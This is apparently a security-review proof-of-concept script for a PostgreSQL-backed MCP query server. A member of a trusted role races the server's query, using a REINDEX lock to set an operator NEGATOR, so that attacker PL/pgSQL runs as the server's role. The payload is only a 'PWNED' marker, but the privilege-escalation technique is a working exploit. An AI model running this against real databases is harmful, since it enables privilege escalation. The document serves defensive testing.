"""attack3 / F16: a trusted role is trusted by name, not by who can act as it. A role that is not
trusted but is a member of a trusted one (MCP_TRUSTED_ROLES here; the database's owner role is
the same case) makes objects owned by that role (SET ROLE, or ALTER ... OWNER TO), which the
ownership rule then takes as trusted, and changes them between the check and the statement.
Here: F10 again through membership: an operator owned by `app_owner` (trusted) with a built-in
function passes; the attacker holds the server's statement with REINDEX of app_owner's table it
reads (a member may REINDEX it, no MAINTAIN grant needed) and sets a NEGATOR meanwhile: the
planner's NOT (a === b) -> a !=== b runs the attacker's PL/pgSQL as the server.

The guard already counts members of a schema's owner as creators (facts.py _CREATOR) but not
members of a trusted role (facts.py TRUSTED_ROLES).

Usage (bed and setup.py first, see README.md):
  PYTHONPATH=tests:security-review uv run python security-review/member_trusted.py [race|static]
  static: the negator set before the call (control: refused, volatile_function).
  TRUST=dbowner: app_owner is trusted as the database's owner (ALTER DATABASE atkdb OWNER TO
  app_owner, restored after) instead of through MCP_TRUSTED_ROLES.
  TRUST=server: the trusted role is the server's own role `reader` (GRANT reader TO attacker,
  e.g. to share its read access; revoked after) instead of app_owner."""
import asyncio, json, os, sys, time
import asyncpg
from mcpclient import connect
from common import DSN, as_role, tool

ADMIN = r"""
DO $$BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname='app_owner') THEN
    CREATE ROLE app_owner NOLOGIN; END IF;
END$$;
GRANT app_owner TO attacker;   -- e.g. a developer of the application
"""
ATTACKER = r"""
GRANT USAGE, CREATE ON SCHEMA atk TO app_owner, reader;   -- atk is the attacker's own schema
SET ROLE app_owner;
DROP OPERATOR IF EXISTS atk.=== (int, int); DROP OPERATOR IF EXISTS atk.!=== (int, int);
DROP FUNCTION IF EXISTS atk.neg_evil(int, int); DROP TABLE IF EXISTS atk.facts;
CREATE TABLE atk.facts (id int PRIMARY KEY); INSERT INTO atk.facts VALUES (1), (2);
GRANT SELECT ON atk.facts TO reader;
CREATE FUNCTION atk.neg_evil(int, int) RETURNS boolean VOLATILE LANGUAGE plpgsql AS $f$
DECLARE x text := pg_catalog.pg_current_xact_id()::text;
BEGIN
  PERFORM pg_catalog.set_config('application_name', 'PWNED-member xid ' || x, false);
  RAISE EXCEPTION 'PWNED as % (read_only=%), consumed xid %', current_user,
    pg_catalog.current_setting('transaction_read_only'), x;
END $f$;
GRANT EXECUTE ON FUNCTION atk.neg_evil(int, int) TO PUBLIC;
CREATE OPERATOR atk.=== (LEFTARG = int, RIGHTARG = int, FUNCTION = pg_catalog.int4eq);
CREATE OPERATOR atk.!=== (LEFTARG = int, RIGHTARG = int, FUNCTION = atk.neg_evil);
RESET ROLE;
"""
SQL = ("WITH w AS MATERIALIZED (SELECT id FROM atk.facts ORDER BY id LIMIT 1) "
       "SELECT w.id FROM w WHERE NOT (w.id OPERATOR(atk.===) {n})")
NEGATOR = "ALTER OPERATOR atk.===(int, int) SET (NEGATOR = OPERATOR(atk.!===))"


async def main(mode: str) -> None:
    admin = await asyncpg.connect(DSN)
    await admin.execute(ADMIN)
    a = await asyncpg.connect(as_role("attacker"))
    await a.execute(ATTACKER)
    b = await asyncpg.connect(as_role("attacker"))
    dbowner = os.environ.get("TRUST") == "dbowner"
    server = os.environ.get("TRUST") == "server"
    if server:  # the same objects, owned by the server's own role instead
        await admin.execute("GRANT reader TO attacker")
        await a.execute("ALTER TABLE atk.facts OWNER TO reader; "
                        "ALTER FUNCTION atk.neg_evil(int, int) OWNER TO reader; "
                        "ALTER OPERATOR atk.=== (int, int) OWNER TO reader; "
                        "ALTER OPERATOR atk.!=== (int, int) OWNER TO reader")
    if dbowner:
        await admin.execute("ALTER DATABASE atkdb OWNER TO app_owner")
    settings = {} if dbowner or server else {"trusted_roles": ["app_owner"]}
    async with connect(as_role("reader"), **settings) as c:
        ok, body = await tool(c, "execute_query", sql=SQL.format(n=2))
        print("baseline (no negator):", ok, json.dumps(body.get("rows", body.get("error")))[:200])
        before = await admin.fetchval("SELECT pg_current_xact_id()::text")
        if mode == "static":
            await b.execute(NEGATOR)
            ok, body = await tool(c, "execute_query", sql=SQL.format(n=3))
            print("static call:", ok, json.dumps(body.get("error", body))[:300])
        else:
            await a.execute("BEGIN; REINDEX INDEX atk.facts_pkey")  # as a member of app_owner
            call = asyncio.create_task(tool(c, "execute_query", sql=SQL.format(n=3)))
            t0, waiting = time.monotonic(), None
            while time.monotonic() - t0 < 10 and not waiting:
                waiting = await admin.fetchrow(
                    "SELECT pid, wait_event_type FROM pg_stat_activity WHERE usename = 'reader' "
                    "AND wait_event_type = 'Lock' AND datname = current_database()")
                await asyncio.sleep(0.01)
            print("server backend waiting on a lock:", dict(waiting) if waiting else None)
            await b.execute(NEGATOR)
            await a.execute("COMMIT")
            ok, body = await call
            print("call:", ok, json.dumps(body.get("error", body.get("rows", body)))[:400])
        after = await admin.fetchval("SELECT pg_current_xact_id()::text")
        print("next xid before/after (admin session, 1 each):", before, after)
        ok, body = await tool(c, "execute_query", sql="SELECT current_setting('application_name') AS app")
        print("server session application_name now:", json.dumps(body.get("rows", body))[:200])
    if server:
        await a.execute("ALTER OPERATOR atk.=== (int, int) OWNER TO app_owner; "
                        "ALTER OPERATOR atk.!=== (int, int) OWNER TO app_owner; "
                        "ALTER FUNCTION atk.neg_evil(int, int) OWNER TO app_owner; "
                        "ALTER TABLE atk.facts OWNER TO app_owner")
        await admin.execute("REVOKE reader FROM attacker")
    await a.execute("SET ROLE app_owner; DROP OPERATOR IF EXISTS atk.=== (int, int); "
                    "DROP OPERATOR IF EXISTS atk.!=== (int, int); RESET ROLE")
    if dbowner:
        await admin.execute("ALTER DATABASE atkdb OWNER TO postgres")
    for x in (a, b, admin):
        await x.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "race"))
